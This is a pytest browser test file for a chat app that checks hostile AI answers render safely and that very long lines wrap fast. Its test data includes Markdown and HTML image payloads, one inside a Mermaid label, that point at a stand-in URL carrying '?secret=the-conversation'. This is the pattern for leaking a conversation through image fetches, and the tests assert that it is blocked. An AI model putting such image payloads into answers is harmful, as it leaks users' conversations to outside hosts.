"""Issue 12, item 7 in a real browser: hostile answers render safely, and long lines render fast.

Headless Chromium on the real app; Claude is played by the loopback API. The unit view of the same
cases (the Markdown handed to the Chatbot) is in tests/test_hostile_rendering.py.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from chat import Settings
from tests.browser.chat_page import ChatPage, chromium
from tests.conftest import launched_app
from tests.loopback_api import LoopbackMessagesAPI
from tests.upstream import replies, text_reply
from ui.server import ServerSettings

# Port 9 (discard) on this machine: nothing answers, so a fetch fails at once, but the browser
# still issues the request, which is what the tests watch for.
LEAK = "http://127.0.0.1:9/pixel.png?secret=the-conversation"
LONG = 100_000
LONG_LINES = {
    "letters": "a" * LONG,
    "url": ("https://example.invalid/" + "x" * LONG)[:LONG],
    "snake_case": ("snake_case_" * LONG)[:LONG],  # froze the tab for 29 s before the fix
}
SHOWN_JS = """(n) => {
    const parts = document.querySelectorAll('.bot.message:not(.pending) .message-content');
    return Array.from(parts).some(p => p.textContent.replaceAll('\\u200b', '').length >= n);
}"""
WIDTHS_JS = """() => {
    const bubble = [...document.querySelectorAll('.bot.message:not(.pending)')].pop();
    return {bubble: bubble.scrollWidth, chat: document.querySelector('[role=log]').clientWidth,
            page: document.documentElement.scrollWidth, window: window.innerWidth};
}"""
REMOTE_IMAGES_JS = "(url) => [...document.querySelectorAll('.message img')].filter(i => i.src === url).length"


def answered(chat_page: ChatPage, api: LoopbackMessagesAPI, text: str, shows: str) -> None:
    """Have Claude answer with this text; wait until the answer shows `shows` and is over."""
    api.script = replies(text_reply(text))
    chat_page.ask("go")
    chat_page.watch_answers(until=lambda answers: bool(answers) and shows in answers[-1])
    chat_page.wait_until_idle()


def requests_to(chat_page: ChatPage, url: str) -> list[str]:
    """Every request the tab issues to this URL from now on (appended as they happen)."""
    seen: list[str] = []
    chat_page.page.on("request", lambda request: seen.append(request.url) if request.url == url else None)
    return seen


def test_text_after_a_style_tag_is_shown(chat_page: ChatPage, loopback_api: LoopbackMessagesAPI):
    answered(chat_page, loopback_api, "Before <style> and after the style.", "after")
    assert chat_page.answer() == "Before <style> and after the style."


def test_text_after_a_textarea_tag_is_shown(chat_page: ChatPage, loopback_api: LoopbackMessagesAPI):
    answered(chat_page, loopback_api, "Type here: <textarea> and everything after it.", "after")
    assert chat_page.answer() == "Type here: <textarea> and everything after it."
    assert chat_page.page.locator(".message textarea").count() == 0


def test_html_in_a_code_block_shows_as_written_and_markdown_still_renders(
    chat_page: ChatPage, loopback_api: LoopbackMessagesAPI
):
    text = "Use **bold** and `a<b`:\n\n```html\n<b>x</b> &amp;\n```\n\n- one\n- [two](https://example.com/)"
    answered(chat_page, loopback_api, text, "two")
    bubble = chat_page.page.locator(".bot.message:not(.pending)").last
    assert bubble.locator("pre code").inner_text().strip() == "<b>x</b> &amp;"
    assert bubble.locator("strong").inner_text() == "bold"
    assert bubble.locator("p code").inner_text() == "a<b"
    assert bubble.locator("li").all_inner_texts() == ["one", "two"]
    assert chat_page.links() == [("two", "https://example.com/")]


def test_a_remote_image_in_an_answer_is_not_fetched_but_shown_as_a_link(
    chat_page: ChatPage, loopback_api: LoopbackMessagesAPI
):
    fetched = requests_to(chat_page, LEAK)
    answered(chat_page, loopback_api, f'A chart: ![the chart]({LEAK}) and <img src="{LEAK}"> end', "end")
    assert chat_page.links()[0] == ("Image: the chart", LEAK)  # then the bare URL in the <img> text
    assert chat_page.page.evaluate(REMOTE_IMAGES_JS, LEAK) == 0
    assert fetched == []


def test_a_mermaid_diagram_with_an_image_in_a_label_is_shown_as_code_and_fetches_nothing(
    chat_page: ChatPage, loopback_api: LoopbackMessagesAPI
):
    # Drawn as a diagram (as with CHAT_ALLOW_REMOTE_IMAGES=1), this label fetched LEAK three times.
    fetched = requests_to(chat_page, LEAK)
    answered(
        chat_page, loopback_api, f"```mermaid\ngraph TD\n  A[\"<img src='{LEAK}'>\"] --> B\n```\n\nend", "end"
    )
    bubble = chat_page.page.locator(".bot.message:not(.pending)").last
    assert bubble.locator("pre code").inner_text().startswith("graph TD")
    assert bubble.locator(".mermaid").count() == 0
    assert fetched == []


@pytest.fixture
def images_allowed(browser_available: None, app_settings: Settings, tmp_path: Path) -> Iterator[ChatPage]:
    """The chat, served with CHAT_ALLOW_REMOTE_IMAGES=1."""
    server = ServerSettings(allow_remote_images=True)
    with launched_app(app_settings, server) as url, chromium(tmp_path / "profile") as browser:
        page = ChatPage(browser.new_page(), url)
        page.open()
        yield page


def test_a_remote_image_is_fetched_when_remote_images_are_allowed(
    images_allowed: ChatPage, loopback_api: LoopbackMessagesAPI
):
    fetched = requests_to(images_allowed, LEAK)
    with images_allowed.page.expect_request(LEAK):
        answered(images_allowed, loopback_api, f"A chart: ![the chart]({LEAK}) end", "end")
    assert fetched == [LEAK]


@pytest.mark.parametrize("kind", LONG_LINES)
def test_a_100k_character_unbroken_line_shows_within_2_seconds_and_wraps(
    chat_page: ChatPage, loopback_api: LoopbackMessagesAPI, kind: str
):
    chat_page.send("warm up", "You said: warm up")  # the app's first answer opens its store
    loopback_api.script = replies(text_reply(LONG_LINES[kind]))
    started = time.monotonic()
    chat_page.ask("go")
    chat_page.page.wait_for_function(SHOWN_JS, arg=LONG, polling=50)
    seconds = time.monotonic() - started
    chat_page.wait_until_idle()

    assert seconds < 2.0, f"the line took {seconds:.1f} s to show"
    widths = chat_page.page.evaluate(WIDTHS_JS)
    assert widths["bubble"] <= widths["chat"], f"the bubble is wider than the chat: {widths}"
    assert widths["page"] <= widths["window"], f"the page scrolls sideways: {widths}"
